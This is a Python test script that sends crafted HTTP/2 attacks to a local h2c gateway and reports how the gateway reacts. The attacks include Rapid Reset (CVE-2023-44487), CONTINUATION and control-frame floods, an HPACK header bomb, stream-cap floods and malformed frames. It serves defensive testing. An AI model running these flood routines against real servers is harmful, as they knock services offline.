#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 attacks and bad input with crafted frames (python3-h2's hpack and hyperframe)
against an h2c listener.

Usage: h2_attacks.py PORT MODE [PATH]

rapid-reset            500 streams opened and cancelled at once (CVE-2023-44487)
continuation-flood     a HEADERS without END_HEADERS, then CONTINUATION frames without end
header-list            one request whose header list decodes to 1 MB (an HPACK bomb: one
                       4000-byte field put in the dynamic table, then referenced by index)
header-list-over       the same with a list of about 44 KB, then a good request (`then
                       <its status>` is appended)
streams-acked          10,000 requests at once on one connection, after the gateway's
                       SETTINGS were acknowledged
streams-unacked        150 requests at once, then the other 9,850, the gateway's SETTINGS
                       never acknowledged
settings-flood         10,000 SETTINGS frames
ping-flood             10,000 PING frames
settings-entries       one SETTINGS frame of 33 entries
bad-NAME               a request with an illegal field (uppercase, connection, keep-alive,
                       transfer-encoding, upgrade, te, pseudo-after, no-path, two-methods),
                       then a good one on the same connection
bad-ping-length        a PING frame of 7 bytes
bad-settings-length    a SETTINGS frame of 5 bytes
grpc-declared          a gRPC request to PATH (/echo.Echo/Unary) declaring content-length
                       1000000, its body never sent
grpc-undeclared        a gRPC request to PATH with 100 body bytes and no content-length

Prints one line of what the gateway did, `key value` pairs in this order when present:
`rst <code of the first RST_STREAM>`, `refused <RST_STREAMs with REFUSED_STREAM>`,
`status <:status of the last response>`, `grpc-status <value>`, `trailers-only` (the answer
ended with its HEADERS), `goaway <error code>`; `closed` when the connection ended without
GOAWAY, `open` when it was still open after the attack. rapid-reset prints `goaway <code>`,
`closed` or `open` alone.
"""
import socket
import struct
import sys
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
REFUSED_STREAM = 7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def request(path="/open/x", method="GET", extra=()):
    return [(":method", method), (":path", path), (":scheme", "http"),
            (":authority", "a.test")] + list(extra)


class peer:
    """A raw HTTP/2 client: sends frames as given, reads and notes what the gateway sends."""

    def __init__(self, port, ack_settings=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.ack_settings = ack_settings
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.first_rst = None
        self.refused = 0
        self.status = {}
        self.fields = {}
        self.ended = set()  # streams whose answer ended
        self.trailers_only = set()
        self.lock = threading.Lock()
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            return False

    def headers(self, stream, fields, end_stream=True, end_headers=True):
        flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
        return frame(HEADERS, flags, stream, self.enc.encode(fields))

    def read_once(self):
        """Reads what is there and handles whole frames; False at the connection's end."""
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return None
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            self.handle(kind, flags, stream, payload)
        return True

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK and self.ack_settings:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == GOAWAY and self.goaway is None:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            if self.first_rst is None:
                self.first_rst = code
            if code == REFUSED_STREAM:
                self.refused += 1
        elif kind == HEADERS:
            fields = dict(self.dec.decode(payload))
            if ":status" in fields:
                self.status[stream] = int(fields[":status"])
                if flags & END_STREAM:
                    self.trailers_only.add(stream)
            self.fields.setdefault(stream, {}).update(fields)
            if flags & END_STREAM:
                self.ended.add(stream)
        elif kind == DATA and flags & END_STREAM:
            self.ended.add(stream)

    def until(self, done, busy=lambda: False):
        """Reads until done(), a GOAWAY, the connection's end, or 3 s of silence while not
        busy()."""
        self.sock.settimeout(0.5)
        quiet = 0
        while not (done() or self.goaway is not None or self.closed):
            got = self.read_once()
            if got is False:
                return
            quiet = quiet + 1 if got is None and not busy() else 0
            if quiet >= 6:
                return

    def report(self, stream=None):
        out = []
        if self.first_rst is not None:
            out.append("rst %d" % self.first_rst)
        refused = getattr(self, "refused_at_cap", self.refused)
        if refused:
            out.append("refused %d" % refused)
        if stream is not None and stream in self.status:
            out.append("status %d" % self.status[stream])
            grpc = self.fields.get(stream, {}).get("grpc-status")
            if grpc is not None:
                out.append("grpc-status %s" % grpc)
            if stream in self.trailers_only:
                out.append("trailers-only")
        if self.goaway is not None:
            out.append("goaway %d" % self.goaway)
        elif self.closed:
            out.append("closed")
        return " ".join(out) if out else "open"


def flood(p, frames, then_read=True):
    """Sends `frames` (an iterable of bytes) from a thread while reading; the report."""

    def push():
        for f in frames:
            if p.goaway is not None or p.closed or not p.send(f):
                return

    t = threading.Thread(target=push, daemon=True)
    t.start()
    p.until(lambda: False, busy=t.is_alive)
    t.join(10)
    return p.report()


def continuation_flood(port):
    p = peer(port, ack_settings=False)  # (an ACK would break into the header block)
    first = p.headers(1, request(), end_headers=False)

    def frames():
        yield first
        block = p.enc.encode([("x-filler", "a" * 1000)])
        for _ in range(100000):
            yield frame(CONTINUATION, 0, 1, block)

    return flood(p, frames())


def header_list(port, refs):
    p = peer(port)
    # One field of 4000 bytes into the dynamic table, then `refs` references to it: with 262,
    # about 1 MB decoded from one HEADERS frame of a few KB.
    big = ("x-bomb", "b" * 4000)
    block = p.enc.encode(request() + [big])
    block += bytes([0x80 | 62]) * refs  # indexed field 62: the dynamic table's newest entry
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    p.until(lambda: 1 in p.ended)
    if p.goaway is None and not p.closed:
        # The connection goes on: a good request on it is answered.
        p.send(p.headers(3, request("/open/after")))
        p.until(lambda: 3 in p.ended)
        return p.report(1) + " then %s" % p.status.get(3)
    return p.report(1)


def streams(port, ack):
    p = peer(port, ack_settings=ack)
    if ack:
        # The gateway's SETTINGS first, acknowledged (it then holds its stream cap).
        got = []
        orig = p.handle

        def note(kind, flags, stream, payload):
            if kind == SETTINGS and not flags & ACK:
                got.append(1)
            orig(kind, flags, stream, payload)

        p.handle = note
        p.until(lambda: got)

    def frames(first, end):
        for i in range(first, end):
            yield p.headers(1 + 2 * i, request())

    if not ack:
        # 150 at once: those past the cap (100) are refused, the connection goes on.
        p.send(b"".join(frames(0, 150)))
        p.until(lambda: p.refused >= 50)
        # Reported as counted here: during the flood that follows, a stream past the cap may
        # still be refused before the GOAWAY arrives, however many the first 150 were.
        p.refused_at_cap = p.refused
    return flood(p, frames(150 if not ack else 0, 10000))


def control_flood(port, kind):
    p = peer(port)
    if kind == SETTINGS:
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))  # INITIAL_WINDOW_SIZE
    else:
        one = frame(PING, 0, 0, b"12345678")
    return flood(p, (one for _ in range(10000)))


BAD = {
    "uppercase": [("X-Upper", "a")],
    "connection": [("connection", "close")],
    "keep-alive": [("keep-alive", "timeout=5")],
    "transfer-encoding": [("transfer-encoding", "chunked")],
    "upgrade": [("upgrade", "websocket")],
    "te": [("te", "gzip")],
    "te-trailers": [("te", "trailers")],  # allowed: the control
}


def bad_field(port, name):
    p = peer(port)
    if name == "pseudo-after":
        fields = [(":method", "GET"), (":scheme", "http"), ("x-a", "1"), (":path", "/bad/x"),
                  (":authority", "a.test")]
    elif name == "no-path":
        fields = [f for f in request("/bad/x") if f[0] != ":path"]
    elif name == "two-methods":
        fields = request("/bad/x") + [(":method", "POST")]
    else:
        fields = request("/bad/x") + BAD[name]
    # hpack lowercases nothing; the raw encoder sends the names as given.
    p.send(p.headers(1, fields))
    p.until(lambda: 1 in p.ended or p.first_rst is not None)
    p.send(p.headers(3, request("/open/after")))
    p.until(lambda: 3 in p.ended)
    out = p.report(3)
    return out


def bad_frame(port, kind):
    p = peer(port)
    if kind == PING:
        p.send(frame(PING, 0, 0, b"1234567"))
    else:
        p.send(frame(SETTINGS, 0, 0, b"12345"))
    p.until(lambda: False)
    return p.report()


def grpc(port, declared, path):
    p = peer(port)
    fields = request(path, "POST", [("content-type", "application/grpc"),
                                                   ("te", "trailers"), ("x-api-key", "k2")])
    if declared:
        fields.append(("content-length", "1000000"))
        p.send(p.headers(1, fields, end_stream=False))
    else:
        message = b"\x00" + struct.pack(">I", 95) + b"x" * 95
        p.send(p.headers(1, fields, end_stream=False) + frame(DATA, END_STREAM, 1, message))
    p.until(lambda: 1 in p.ended)
    return p.report(1)


def rapid_reset(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    # Open and cancel streams at once (CVE-2023-44487), far over the per-second bound.
    for i in range(500):
        sid = 1 + 2 * i
        try:
            conn.send_headers(sid, [(":method", "GET"), (":path", "/open/x"),
                                    (":scheme", "http"), (":authority", "a.test")])
            conn.reset_stream(sid)
        except h2.exceptions.ProtocolError:
            break
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        pass
    while True:
        try:
            data = sock.recv(65535)
        except (socket.timeout, OSError):
            return "open"
        if not data:
            return "closed"
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            continue
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                return "goaway %d" % int(e.error_code)


def main(port, mode, path=None):
    if mode == "rapid-reset":
        return rapid_reset(port)
    if mode == "continuation-flood":
        return continuation_flood(port)
    if mode == "header-list":
        return header_list(port, 262)
    if mode == "header-list-over":
        return header_list(port, 10)
    if mode in ("streams-acked", "streams-unacked"):
        return streams(port, mode == "streams-acked")
    if mode == "settings-flood":
        return control_flood(port, SETTINGS)
    if mode == "ping-flood":
        return control_flood(port, PING)
    if mode == "settings-entries":
        p = peer(port)
        p.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535) * 33))
        p.until(lambda: False)
        return p.report()
    if mode == "bad-ping-length":
        return bad_frame(port, PING)
    if mode == "bad-settings-length":
        return bad_frame(port, SETTINGS)
    if mode.startswith("bad-"):
        return bad_field(port, mode[4:])
    if mode in ("grpc-declared", "grpc-undeclared"):
        return grpc(port, mode == "grpc-declared", path or "/echo.Echo/Unary")
    raise SystemExit("unknown mode " + mode)


if __name__ == "__main__":
    print(main(int(sys.argv[1]), sys.argv[2], *sys.argv[3:4]), flush=True)
